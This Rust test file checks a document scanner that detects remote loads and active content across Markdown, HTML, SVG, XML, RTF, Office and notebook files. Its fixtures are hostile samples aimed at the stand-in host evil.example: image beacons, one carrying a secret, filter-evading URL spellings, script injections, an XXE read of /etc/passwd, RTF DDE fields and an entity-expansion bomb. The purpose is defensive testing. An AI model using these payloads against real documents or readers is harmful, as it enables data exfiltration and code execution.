//! What each kind of document loads and runs, and what it does not.

use super::*;
use crate::test_archive::archive;

fn found(name: &str, document: &[u8]) -> Reach {
    kind(name, document.get(..4096).unwrap_or(document)).map(|kind| look(kind, document)).unwrap_or_default()
}

fn office(part: &str, content: &str) -> Vec<u8> {
    archive(&[("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w:document/>"), (part, content)])
}

fn opendocument(content: &str) -> Vec<u8> {
    archive(&[
        ("mimetype", "application/vnd.oasis.opendocument.text"),
        ("META-INF/manifest.xml", "<m/>"),
        ("content.xml", content),
    ])
}

#[test]
fn pages_that_load_are_found_in_every_spelling() {
    for (name, document) in [
        ("a.md", "![x](https://evil.example/p?d=secret)"),
        ("a.md", "![x\ny](https://evil.example/p)"),
        ("a.md", "![a [b] c](https://evil.example/p)"),
        ("a.md", "![a \\] c](https://evil.example/p)"),
        ("a.md", "![x](https&#58;//evil.example/p)"),
        ("a.md", "![x](<//evil.example/p>)"),
        ("a.md", "text ![logo]\n\n[logo]: http://evil.example/p"),
        ("a.md", "[![x](https://evil.example/p)](https://a.example)"),
        ("a.md", "text\n\n<img\nalt='>' src='https://evil.example/p'>"),
        ("a.md", "| a |\n|---|\n| ![x](https://evil.example/p) |"),
        ("a.html", "<IMG alt=a SRC='https://evil.example/p'>"),
        ("a.html", "<img src=https:/\\evil.example/p>"),
        ("a.html", "<img src='ht\ttps://evil.example/p'>"),
        ("a.html", "<img src='&#104;ttps&colon;//evil.example/p'>"),
        ("a.html", "<img/src=\\\\evil.example\\p>"),
        ("a.html", "<img alt='a>b' src=//evil.example/p>"),
        ("a.html", "<img srcset='a.png 1x, https://evil.example/p 2x'>"),
        ("a.html", "<td background=https://evil.example/p>"),
        ("a.html", "<base href=https://evil.example/><img src=p>"),
        ("a.html", "<div style='background:u\\72l(https://evil.example/p)'>"),
        ("a.html", "<style>@import 'https://evil.example/p'</style>"),
        ("a.html", "<style>a{content:\"/*\";background:url(//evil.example/p);x:\"*/\"}</style>"),
        ("a.html", "<style>a{background:image-set('https://evil.example/p' 1x)}</style>"),
        ("a.html", "<svg><style><img src=https://evil.example/p></style></svg>"),
        ("a.html", "<style>/*<!--*/</style><img src=https://evil.example/p>-->"),
        ("a.html", "<link rel=preconnect href=https://evil.example>"),
        ("a.html", "<video poster=https://evil.example/p>"),
        ("a.html", "<input type=image src=https://evil.example/p>"),
        ("a.html", "<iframe src=https://evil.example/p>"),
        ("report", "<!doctype html><img src=https://evil.example/p>"),
        ("a.xhtml", "<html xmlns='http://www.w3.org/1999/xhtml'><img src='https://evil.example/p'/></html>"),
        ("a.xml", "<?xml-stylesheet href='https://evil.example/p'?><a/>"),
        ("a.xml", "<!DOCTYPE a SYSTEM 'https://evil.example/p'><a/>"),
        ("a.xml", "<a><h:img xmlns:h='http://www.w3.org/1999/xhtml' src='https://evil.example/p'/></a>"),
        ("a.svg", "<svg><image xlink:href='https://evil.example/p'/></svg>"),
        ("a.svg", "<svg><image href='&#x68;ttps://evil.example/p'/></svg>"),
        ("a.svg", "<!DOCTYPE svg [<!ENTITY e 'https://evil.example/p'>]><svg><image href='&e;'/></svg>"),
        ("a.svg", "<!DOCTYPE svg [<!ENTITY e '<image href=\"https://evil.example/p\"/>'>]><svg>&e;</svg>"),
        ("a.svg", "<svg><set attributeName='href' to='https://evil.example/p'/></svg>"),
        ("a.svg", "<svg><style><![CDATA[a{fill:url(https://evil.example/p#a)}]]></style></svg>"),
        ("a.svg", "<svg><rect fill='url(https://evil.example/p#a)'/></svg>"),
        ("a.svg", "<svg><foreignObject><img src='https://evil.example/p'/></foreignObject></svg>"),
        ("a.css", "a{background:url(https://evil.example/p)}"),
        ("a.rst", ".. image:: https://evil.example/p"),
        ("a.adoc", "image::https://evil.example/p[alt]"),
        ("a.ipynb", r#"{"cells":[{"cell_type":"markdown","source":["![x]","(https://evil.example/p)"]}]}"#),
        ("a.eml", "Content-Type: text/html\n\n<img src=3D\"https://evil.exam=\nple/p\">"),
        ("a.rtf", "{\\rtf1{\\*\\template https://evil.example/p}}"),
        ("a.rtf", "{\\rtf1{\\field{\\*\\fldinst { INCLUDEPICTURE \"https://evil.example/p\" \\\\d}}}}"),
        ("a.doc", "{\\rtf1{\\*\\template h\\'74tps://evil.ex{\\b ample}/p}}"),
        ("a.fodt", "<office:document><draw:image xlink:href='https://evil.example/p'/></office:document>"),
    ] {
        let reach = found(name, document.as_bytes());
        assert!(reach.hosts().contains("evil.example"), "{name}: {document}: {reach:?}");
    }
}

#[test]
fn what_runs_is_found() {
    for (name, document) in [
        ("a.html", "<script src=app.js></script>"),
        ("a.html", "<body onload=x()>"),
        ("a.html", "<a href='java&Tab;script:x()'>"),
        ("a.html", "<iframe srcdoc='&lt;script>x()&lt;/script>'>"),
        ("a.html", "<meta http-equiv=refresh content='0;url=https://evil.example/p'>"),
        ("a.html", "<a href='data:text/html,<script>x()</script>'>"),
        ("a.html", "<embed src=x.swf>"),
        ("a.md", "<img src=x onerror=alert(1)>"),
        ("a.md", "[x](javascript:alert(1))"),
        ("a.svg", "<svg><script>x()</script></svg>"),
        ("a.svg", "<svg onload='x()'/>"),
        ("a.svg", "<svg><a><set attributeName='xlink:href' to='javascript:x()'/></a></svg>"),
        ("a.svg", "<x:svg xmlns:x='http://www.w3.org/2000/svg'><x:script>x()</x:script></x:svg>"),
        ("a.xml", "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"),
        (
            "a.ipynb",
            r#"{"cells":[{"cell_type":"code","outputs":[{"data":{"text/html":["<script>","x</script>"]}}]}]}"#,
        ),
        ("a.rtf", "{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}}"),
        ("a.rtf", "{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\x \"a\"}}}"),
        (
            "a.fodt",
            "<office:document><script:event-listener xlink:href='vnd.sun.star.script:x'/></office:document>",
        ),
    ] {
        let reach = found(name, document.as_bytes());
        assert!(!reach.active.is_empty(), "{name}: {document}: {reach:?}");
    }
}

#[test]
fn archives_are_read_by_their_relationships_and_parts() {
    let relation = |kind: &str| {
        format!(
            "<Relationships><Relationship Id='a' Type='http://x/{kind}' Target='https://evil.example/p' TargetMode='External'/></Relationships>"
        )
    };
    for kind in ["image", "attachedTemplate", "oleObject", "frame", "subDocument", "video"] {
        let reach = found("a.docx", &office("word/_rels/settings.xml.rels", &relation(kind)));
        assert!(reach.hosts().contains("evil.example"), "{kind}: {reach:?}");
    }
    assert!(found("a.docx", &office("word/_rels/a.xml.rels", &relation("hyperlink"))).loads.is_empty());
    let field = "<w:p><w:fldChar w:fldCharType='begin'/><w:instrText> INCLUDE</w:instrText><w:instrText>PICTURE &quot;https://evil.example/p&quot;</w:instrText><w:fldChar w:fldCharType='end'/></w:p>";
    assert!(found("a.docx", &office("word/header1.xml", field)).hosts().contains("evil.example"));
    assert!(!found("a.docx", &office("word/vbaProject.bin", "x")).active.is_empty());
    assert!(!found("a.docx", &office("word/afchunk.htm", "<script>x()</script>")).active.is_empty());
    let image = "<office:document-content><draw:image xlink:href='https://evil.example/p'/></office:document-content>";
    assert!(found("a.odt", &opendocument(image)).hosts().contains("evil.example"));
    let plain = "<office:document-content><office:scripts/><draw:image xlink:href='Pictures/a.png'/><text:a xlink:href='https://a.example'>a</text:a></office:document-content>";
    assert_eq!(found("a.odt", &opendocument(plain)), Reach::default());
    assert_eq!(found("a.zip", &archive(&[("a.html", "<script>")])), Reach::default());
}

#[test]
fn ordinary_documents_do_nothing() {
    for (name, document) in [
        (
            "README.md",
            "# A\n\n![x](images/a.png) [y](https://a.example) <https://b.example>\n\n```\n![x](https://c.example/p)\n```\n\n`<img src=https://d.example>`",
        ),
        (
            "a.html",
            "<!doctype html><html lang=en xmlns='http://www.w3.org/1999/xhtml'><meta charset=utf-8><link rel=stylesheet href=a.css><link rel=canonical href=https://a.example><img src=a.png alt='see https://b.example'><a href=https://c.example>x</a><form action=https://d.example></form><script type=application/ld+json>{\"@context\":\"https://schema.org\"}</script>",
        ),
        (
            "a.html",
            "<meta property=og:image content=https://a.example/x.png><meta http-equiv=refresh content='0; url=latest/'>",
        ),
        ("a.html", "<img src='data:image/svg+xml,<svg/>'><img src='data:image/png;base64,AAAA'>"),
        (
            "a.svg",
            "<?xml version='1.0'?><!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd'><svg xmlns='http://www.w3.org/2000/svg' xmlns:inkscape='http://www.inkscape.org/x'><defs><g id='a'/></defs><use href='#a'/><rect fill='url(#b)'/><a href='https://a.example'/></svg>",
        ),
        (
            "pom.xml",
            "<project xmlns='http://maven.apache.org/POM/4.0.0' xsi:schemaLocation='http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd'><url>https://a.example</url></project>",
        ),
        (
            "a.css",
            "@charset \"utf-8\"; @namespace \"http://www.w3.org/1999/xhtml\"; a::before{content:\"https://a.example\";background:url(a.png)}",
        ),
        ("a.rtf", "{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"https://a.example\"}{\\fldrslt x}} plain}"),
        ("a.rs", "// <img src=https://a.example>"),
        ("notes.txt", "see https://a.example/x.png"),
        (
            "a.ipynb",
            r#"{"cells":[{"cell_type":"markdown","source":["![x](a.png)"]},{"cell_type":"code","source":["x"],"outputs":[]}]}"#,
        ),
    ] {
        assert_eq!(found(name, document.as_bytes()), Reach::default(), "{name}");
    }
}

#[test]
fn other_encodings_and_later_places_do_not_hide() {
    let page = "<!doctype html><img src=https://evil.example/p>";
    let wide: Vec<u8> =
        [0xff, 0xfe].into_iter().chain(page.encode_utf16().flat_map(u16::to_le_bytes)).collect();
    assert!(found("a.html", &wide).hosts().contains("evil.example"));
    let late = format!("<!doctype html>{}{page}", "<p>x</p>\n".repeat(600_000));
    assert!(found("a.html", late.as_bytes()).hosts().contains("evil.example"));
    assert!(found("a.html", &vec![b'x'; MOST + 1]).unseen);
}

#[test]
fn bombs_and_broken_documents_end() {
    let entities: String =
        (0..20).map(|i| format!("<!ENTITY e{} '&e{i};&e{i};&e{i};&e{i};'>", i + 1)).collect();
    let bomb = format!("<!DOCTYPE svg [<!ENTITY e0 '<a/>'>{entities}]><svg x='&e20;'>&e20;</svg>");
    assert!(found("a.svg", bomb.as_bytes()).unseen);
    for document in
        ["{\\rtf1".repeat(100_000), "<div>".repeat(200_000), "[".repeat(100_000), "![".repeat(50_000)]
    {
        for name in ["a.rtf", "a.html", "a.md", "a.svg"] {
            let _ = found(name, document.as_bytes());
        }
    }
    assert!(found("a.ipynb", b"{").unseen);
}
